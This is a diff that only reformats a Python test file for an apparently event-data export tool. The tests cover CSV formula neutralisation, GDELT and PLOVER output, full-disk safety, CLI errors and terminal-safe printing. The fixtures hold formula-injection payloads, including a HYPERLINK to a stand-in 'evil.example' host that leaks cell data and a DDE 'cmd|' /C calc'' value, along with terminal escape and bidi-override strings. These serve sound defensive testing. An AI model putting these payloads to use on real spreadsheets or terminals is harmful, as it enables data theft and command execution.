@@ -2,6 +2,7 @@
 GDELT readers (one line of 61 fields per event, whatever the text holds), JSON-lines readers,
 and a full disk (the destination is as it was, no temporary file is left). All on a real
 database made by a real ingest, read back with pandas and pyarrow."""
+
 import csv
 import datetime as dt
 import itertools
@@ -31,15 +32,30 @@ from tests.conftest import ROOT, example_db
 # Articles whose text starts like spreadsheet formulas, and whose URLs (SOURCEURL in GDELT)
 # hold every character some reader takes for a line or field break.
 DOCUMENTS = [
-    {"id": "formula", "date": "2025-01-01", "url": "http://a.example/one\rtwo",
-     "text": '=HYPERLINK("http://evil.example/?x="&A1,"click") Egypt condemned Israel.'},
-    {"id": "minus", "date": "2024-12-31",
-     "url": "http://b.example/\x0bx\x0cy\x1cz\x1d\x1e\x85w\u2028v\u2029u",
-     "text": "Egypt condemned Israel.\r\n-Egypt criticised Turkey."},
-    {"id": "at", "date": "2025-12-31", "url": "http://c.example/\ttab\nnl",
-     "text": "@SUM(1+1) Russia signed an agreement with Mali."},
-    {"id": "plus", "date": "2025-06-15", "url": 'http://d.example/"quoted"\\back',
-     "text": "+1 France condemned Germany."},
+    {
+        "id": "formula",
+        "date": "2025-01-01",
+        "url": "http://a.example/one\rtwo",
+        "text": '=HYPERLINK("http://evil.example/?x="&A1,"click") Egypt condemned Israel.',
+    },
+    {
+        "id": "minus",
+        "date": "2024-12-31",
+        "url": "http://b.example/\x0bx\x0cy\x1cz\x1d\x1e\x85w\u2028v\u2029u",
+        "text": "Egypt condemned Israel.\r\n-Egypt criticised Turkey.",
+    },
+    {
+        "id": "at",
+        "date": "2025-12-31",
+        "url": "http://c.example/\ttab\nnl",
+        "text": "@SUM(1+1) Russia signed an agreement with Mali.",
+    },
+    {
+        "id": "plus",
+        "date": "2025-06-15",
+        "url": 'http://d.example/"quoted"\\back',
+        "text": "+1 France condemned Germany.",
+    },
 ]
 STRING_COLUMNS = [name for name, kind in FLAT_COLUMNS if kind == "string"]
 
@@ -69,8 +85,13 @@ def copy_db(db, path, journal_mode=None):
 
 
 def run_cli(*args, cwd=None):
-    return subprocess.run([sys.executable, "-m", "communique.cli", *map(str, args)],
-                          capture_output=True, cwd=cwd or ROOT, timeout=600, check=False)
+    return subprocess.run(
+        [sys.executable, "-m", "communique.cli", *map(str, args)],
+        capture_output=True,
+        cwd=cwd or ROOT,
+        timeout=600,
+        check=False,
+    )
 
 
 def read_csv(path):
@@ -79,14 +100,32 @@ def read_csv(path):
 
 # -- CSV: spreadsheet formulas ------------------------------------------------------------
 
-@pytest.mark.parametrize(("value", "cell"), [
-    ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"), ("@SUM(A1)", "'@SUM(A1)"),
-    ("+1 France", "'+1 France"), ("-Egypt", "'-Egypt"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
-    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("-", "'-"), ("-\u0663", "'-\u0663"),
-    # numbers stay numbers, whether typed or text: "-2.5" only ever evaluates to itself
-    (-2.5, -2.5), ("-2.5", "-2.5"), ("+5", "+5"), ("-1e5", "-1e5"), ("-.5", "-.5"), (3, 3),
-    ("Egypt = Israel", "Egypt = Israel"), ("", ""), (None, None), (True, True),
-])
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("+1 France", "'+1 France"),
+        ("-Egypt", "'-Egypt"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-", "'-"),
+        ("-\u0663", "'-\u0663"),
+        # numbers stay numbers, whether typed or text: "-2.5" only ever evaluates to itself
+        (-2.5, -2.5),
+        ("-2.5", "-2.5"),
+        ("+5", "+5"),
+        ("-1e5", "-1e5"),
+        ("-.5", "-.5"),
+        (3, 3),
+        ("Egypt = Israel", "Egypt = Israel"),
+        ("", ""),
+        (None, None),
+        (True, True),
+    ],
+)
 def test_csv_cell(value, cell):
     assert csv_cell(value) == cell
 
@@ -94,12 +133,21 @@ def test_csv_cell(value, cell):
 def test_csv_export_and_events_csv_neutralise_formulas_the_same_way(db, tmp_path):
     out = tmp_path / "events.csv"
     assert run_cli("export", "--db", db, "--format", "csv", "--out", out).returncode == 0
-    assert run_cli("export", "--db", db, "--format", "parquet", "--out", tmp_path / "raw.parquet").returncode == 0
+    assert (
+        run_cli(
+            "export", "--db", db, "--format", "parquet", "--out", tmp_path / "raw.parquet"
+        ).returncode
+        == 0
+    )
     raw = pyarrow.parquet.read_table(tmp_path / "raw.parquet").to_pylist()  # text as stored
     exported = read_csv(out).set_index("id")
     assert len(exported) == len(raw) == event_count(db)
-    starts = {row[column][0] for row in raw for column in STRING_COLUMNS
-              if row[column] and row[column].startswith(FORMULA_START)}
+    starts = {
+        row[column][0]
+        for row in raw
+        for column in STRING_COLUMNS
+        if row[column] and row[column].startswith(FORMULA_START)
+    }
     assert {"=", "@", "+", "-"} <= starts  # the data does hold formulas, so the guard is exercised
     for row in raw:
         for column in STRING_COLUMNS[1:]:
@@ -129,11 +177,13 @@ def test_parquet_keeps_the_text_as_stored(db, tmp_path):
 
 # -- GDELT -------------------------------------------------------------------------------
 
+
 def test_gdelt_export_is_one_line_of_61_fields_per_event_whatever_the_text_holds(db, tmp_path):
     out = tmp_path / "events.tsv"
     assert run_cli("export", "--db", db, "--format", "gdelt", "--out", out).returncode == 0
-    frame = pandas.read_csv(out, sep="\t", header=None, quoting=csv.QUOTE_NONE, dtype=str,
-                            keep_default_na=False)
+    frame = pandas.read_csv(
+        out, sep="\t", header=None, quoting=csv.QUOTE_NONE, dtype=str, keep_default_na=False
+    )
     assert frame.shape == (event_count(db), len(GDELT_COLUMNS)) == (event_count(db), 61)
     assert len(out.read_text(encoding="utf-8").splitlines()) == event_count(db)
     urls = set(frame[60])
@@ -147,10 +197,16 @@ def test_gdelt_export_is_one_line_of_61_fields_per_event_whatever_the_text_holds
     assert fractions["20251231"] == "2025.9973"
 
 
-@pytest.mark.parametrize(("day", "fraction"), [
-    ("2025-01-01", "2025.0000"), ("2025-12-31", "2025.9973"), ("2024-12-31", "2024.9973"),
-    ("2024-02-29", "2024.1612"), ("2024-03-01", "2024.1639"),
-])
+@pytest.mark.parametrize(
+    ("day", "fraction"),
+    [
+        ("2025-01-01", "2025.0000"),
+        ("2025-12-31", "2025.9973"),
+        ("2024-12-31", "2024.9973"),
+        ("2024-02-29", "2024.1612"),
+        ("2024-03-01", "2024.1639"),
+    ],
+)
 def test_fraction_date(day, fraction):
     assert fraction_date(dt.date.fromisoformat(day)) == fraction
 
@@ -164,6 +220,7 @@ def test_fraction_date_stays_in_its_year_and_grows_every_day(year):
 
 
 # -- PLOVER ------------------------------------------------------------------------------
+
 
 def test_plover_lines_survive_line_separators_in_the_text(db, tmp_path):
     odd = copy_db(db, tmp_path / "odd.db")
@@ -189,10 +246,16 @@ runpy.run_module("communique.cli", run_name="__main__")
 """
 
 
-@pytest.mark.parametrize(("output_format", "old"), [
-    ("csv", None), ("csv", b"old,export\n"), ("gdelt", b"old\n"), ("plover", None),
-    ("parquet", b"old"),
-])
+@pytest.mark.parametrize(
+    ("output_format", "old"),
+    [
+        ("csv", None),
+        ("csv", b"old,export\n"),
+        ("gdelt", b"old\n"),
+        ("plover", None),
+        ("parquet", b"old"),
+    ],
+)
 def test_a_full_disk_leaves_the_destination_as_it_was(db, tmp_path, output_format, old):
     """A real write failure: the file size limit makes write() fail with EFBIG half way
     (Python ignores SIGXFSZ), as ENOSPC would on a full disk; root is limited too."""
@@ -206,9 +269,24 @@ def test_a_full_disk_leaves_the_destination_as_it_was(db, tmp_path, output_forma
     out = folder / f"events.{output_format}"
     if old is not None:
         out.write_bytes(old)
-    run = subprocess.run([sys.executable, "-c", LIMITED, "export", "--db", source, "--format",
-                          output_format, "--out", out], capture_output=True, cwd=ROOT, timeout=600,
-                         check=False)
+    run = subprocess.run(
+        [
+            sys.executable,
+            "-c",
+            LIMITED,
+            "export",
+            "--db",
+            source,
+            "--format",
+            output_format,
+            "--out",
+            out,
+        ],
+        capture_output=True,
+        cwd=ROOT,
+        timeout=600,
+        check=False,
+    )
     stderr = run.stderr.decode()
     assert run.returncode == 1, stderr
     assert "Traceback" not in stderr and "File too large" in stderr
@@ -249,10 +327,20 @@ def test_a_database_error_half_way_leaves_the_destination_as_it_was(db, tmp_path
 
 # -- the commands ------------------------------------------------------------------------
 
+
 @pytest.mark.parametrize("output_format", FORMATS)
-def test_export_to_a_missing_folder_is_a_usage_error_and_creates_nothing(db, tmp_path, output_format):
-    run = run_cli("export", "--db", db, "--format", output_format, "--out",
-                  tmp_path / "missing" / "events.out")
+def test_export_to_a_missing_folder_is_a_usage_error_and_creates_nothing(
+    db, tmp_path, output_format
+):
+    run = run_cli(
+        "export",
+        "--db",
+        db,
+        "--format",
+        output_format,
+        "--out",
+        tmp_path / "missing" / "events.out",
+    )
     assert run.returncode == 2
     assert b"does not exist" in run.stderr and b"Traceback" not in run.stderr
     assert os.listdir(tmp_path) == []
@@ -269,7 +357,11 @@ def test_export_over_the_database_itself_is_refused(db, tmp_path):
 def test_a_file_that_is_not_a_database_is_a_message(tmp_path):
     bogus = tmp_path / "notes.db"
     bogus.write_text("not a database\n")
-    for args in (["events"], ["agreements"], ["export", "--format", "csv", "--out", tmp_path / "e.csv"]):
+    for args in (
+        ["events"],
+        ["agreements"],
+        ["export", "--format", "csv", "--out", tmp_path / "e.csv"],
+    ):
         run = run_cli(*args, "--db", bogus)
         assert run.returncode == 2 and b"Traceback" not in run.stderr, run.stderr
         assert b"not a database" in run.stderr
@@ -278,13 +370,25 @@ def test_a_file_that_is_not_a_database_is_a_message(tmp_path):
 
 # -- text for the terminal ---------------------------------------------------------------
 
-@pytest.mark.parametrize(("text", "shown"), [
-    ("a\x1b[2Jb", "a\\x1b[2Jb"), ("\x9b31m", "\\x9b31m"), ("x\u202eevil", "x\\u202eevil"),
-    ("\u2066\u2069\u200e\u200f\u061c", "\\u2066\\u2069\\u200e\\u200f\\u061c"),
-    ("bell\x07\x00\x7f", "bell\\x07\\x00\\x7f"), ("a\rb", "a\\x0db"), ("\udc80", "\\udc80"),
-    ("\u2028", "\\u2028"), ("tab\tand\nnewline", "tab\tand\nnewline"),
-    ("مرحبا 中文 e\u0301 \U0001f468\u200d\U0001f469", "مرحبا 中文 e\u0301 \U0001f468\u200d\U0001f469"),
-])
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("a\x1b[2Jb", "a\\x1b[2Jb"),
+        ("\x9b31m", "\\x9b31m"),
+        ("x\u202eevil", "x\\u202eevil"),
+        ("\u2066\u2069\u200e\u200f\u061c", "\\u2066\\u2069\\u200e\\u200f\\u061c"),
+        ("bell\x07\x00\x7f", "bell\\x07\\x00\\x7f"),
+        ("a\rb", "a\\x0db"),
+        ("\udc80", "\\udc80"),
+        ("\u2028", "\\u2028"),
+        ("tab\tand\nnewline", "tab\tand\nnewline"),
+        (
+            "مرحبا 中文 e\u0301 \U0001f468\u200d\U0001f469",
+            "مرحبا 中文 e\u0301 \U0001f468\u200d\U0001f469",
+        ),
+    ],
+)
 def test_printable(text, shown):
     assert printable(text) == shown
 
